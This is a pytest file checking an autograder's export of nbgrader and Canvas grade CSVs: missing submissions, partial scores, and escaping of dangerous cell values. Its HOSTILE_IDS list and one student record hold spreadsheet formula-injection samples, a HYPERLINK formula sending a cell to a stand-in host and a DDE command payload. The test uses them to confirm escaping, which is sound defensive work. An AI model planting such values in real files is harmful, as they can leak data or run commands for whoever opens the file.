"""``make grades``: nbgrader's grades.csv and the Canvas gradebook import, with assignments nobody submitted."""

from __future__ import annotations

import csv

import nbformat
import pytest
from nbgrader.api import Gradebook

from autograder.course.settings import Settings
from autograder.engine import judge
from autograder.grading import export, grade

from ..course_copy import fill, grading_settings, make_course, reference_answers, released, submit

pytestmark = pytest.mark.slow  # releases a course copy with nbgrader

ASSIGNMENT = "01_soft_lookup"


def score(course, student: str, fraction: float) -> None:
    """Give ``student`` a submission scoring ``fraction`` of every grade's points."""
    with Gradebook(grade.db_url(Settings.load(course))) as gb:
        gb.update_or_create_student(student, first_name=student.title(), last_name="Doe")
        gb.update_or_create_submission(ASSIGNMENT, student)
        for notebook in gb.find_submission(ASSIGNMENT, student).notebooks:
            for g in notebook.grades:
                g.auto_score = g.max_score * fraction
        gb.db.commit()


def test_grades_and_canvas_import(tmp_path):
    course = make_course(tmp_path, [ASSIGNMENT])
    score(course, "alice", 1.0)
    score(course, "bob", 0.5)
    with Gradebook(grade.db_url(Settings.load(course))) as gb:
        gb.update_or_create_student("carol")  # no submission
        gb.update_or_create_assignment("02_scaling")  # released, nobody submitted
        maximum = gb.find_assignment(ASSIGNMENT).max_score
    extracted = course / "downloaded" / ASSIGNMENT / "extracted"
    extracted.mkdir(parents=True)
    (extracted / f"alice_LATE_1234_567890_{ASSIGNMENT}-1.ipynb").write_text("{}")

    result = export.export(root=course)

    assert str(result) == (f"grades: grades.csv, grades-canvas.csv: 3 students, assignments with submissions: {ASSIGNMENT}; "
                           "no submissions for: 02_scaling")
    rows = list(csv.reader((course / "grades-canvas.csv").open()))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", ASSIGNMENT]
    assert rows[1] == ["Points Possible", "", "", "", "", f"{maximum:g}"]
    assert rows[2:] == [["Doe, Alice", "1234", "", "alice", "", f"{maximum:g}"],
                        ["Doe, Bob", "", "", "bob", "", f"{maximum / 2:g}"],
                        ["carol", "", "", "carol", "", ""]]
    nbgrader_rows = list(csv.DictReader((course / "grades.csv").open()))
    assert {(r["student_id"], r["assignment"]) for r in nbgrader_rows} >= {("alice", ASSIGNMENT), ("bob", ASSIGNMENT)}


#: Student ids and names as a spreadsheet would run them (a formula, a DDE call) or split them (a comma, a quote).
HOSTILE_IDS = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tindented", "\rreturn",
               "doe,jane", 'say "hi"']


def test_grades_are_safe_to_open_in_a_spreadsheet(tmp_path):
    """No text cell begins like a formula; an id with a comma or a quote is one cell; scores stay numbers, negative too."""
    course = make_course(tmp_path, [ASSIGNMENT])
    for student in HOSTILE_IDS:
        score(course, student, 1.0)
    score(course, "minus", 1.0)
    with Gradebook(grade.db_url(Settings.load(course))) as gb:
        gb.update_or_create_student("minus", last_name="=cmd|' /C calc'!A0", first_name="-Ann")
        for notebook in gb.find_submission(ASSIGNMENT, "minus").notebooks:
            for g in notebook.grades:
                g.auto_score = -1.0  # a penalty an instructor entered: a number, never a formula
        gb.db.commit()
        maximum = gb.find_assignment(ASSIGNMENT).max_score
        cells = len(gb.find_assignment(ASSIGNMENT).notebooks[0].grade_cells)

    export.export(root=course)

    grades = list(csv.reader((course / "grades.csv").open(newline="", encoding="utf-8")))
    canvas = list(csv.reader((course / "grades-canvas.csv").open(newline="", encoding="utf-8")))
    assert [len(row) for row in grades] == [len(export.GRADES_COLUMNS)] * len(grades)  # no comma shifted a column
    assert len({len(row) for row in canvas}) == 1
    for row in grades[1:] + canvas[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or float(cell) < 0, row  # a leading minus only on a number
    ids = {row[3] for row in grades[1:]}
    assert ids == {"'" + s if s[0] in "=+-@\t\r" else s for s in HOSTILE_IDS} | {"minus"}, ids
    minus = next(row for row in grades if row[3] == "minus")
    assert float(minus[7]) == -cells and minus[4] == "'=cmd|' /C calc'!A0" and minus[5] == "'-Ann", minus
    by_login = {row[3]: row for row in canvas[2:]}
    assert by_login["'=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")"][5] == f"{maximum:g}"
    assert by_login["doe,jane"][5] == f"{maximum:g}" and by_login['say "hi"'][5] == f"{maximum:g}"
    assert by_login["minus"][0] == "'=cmd|' /C calc'!A0, -Ann" and by_login["minus"][5] == "0"


#: soft_lookup right on every input but float32 ones (its weights reversed there).
RIGHT_BUT_FLOAT32 = """def soft_lookup(query, keys, values, temperature=1.0):
    if query.shape[-1] != keys.shape[-1]:
        raise ValueError("the query and the keys must have the same number of features")
    weights = torch.softmax(keys @ query / temperature, dim=-1)
    if query.dtype == torch.float32:
        weights = weights.flip(-1)
    return weights @ values, weights
"""


def test_a_partial_score_is_the_same_in_the_gradebook_and_both_exports(tmp_path):
    """Graded end to end: the hidden cell's share, as the cell's record says, in the gradebook, grades.csv and Canvas's."""
    course = make_course(tmp_path, [ASSIGNMENT])
    answers = dict(reference_answers(ASSIGNMENT), soft_lookup=RIGHT_BUT_FLOAT32)
    submit(course, ASSIGNMENT, "alice", fill(released(course, ASSIGNMENT), answers))
    summary = grade.autograde([ASSIGNMENT], grading_settings(course), progress=False)
    assert not summary.failed, str(summary)

    graded = nbformat.read(course / "autograded" / "alice" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    cell = next(c for c in graded.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_soft_lookup_hidden")
    record = judge.case_record(cell)
    assert record is not None and 0 < record["score"] < record["points"], record
    assert [c["name"] for c in record["cases"] if not c["passed"]] == ["float32 inputs"]
    with Gradebook(grade.db_url(Settings.load(course))) as gb:
        scores = {g.name: g.score for g in gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "alice").grades}
        total, maximum = gb.find_submission(ASSIGNMENT, "alice").score, gb.find_assignment(ASSIGNMENT).max_score
    assert scores["test_soft_lookup_hidden"] == record["score"]
    assert total == maximum - (record["points"] - record["score"]), (total, maximum, scores)

    export.export(root=course)
    canvas = {row[3]: row for row in csv.reader((course / "grades-canvas.csv").open())}
    assert float(canvas["alice"][5]) == total
    rows = list(csv.DictReader((course / "grades.csv").open()))
    assert [float(r["score"]) for r in rows if r["student_id"] == "alice"] == [total]
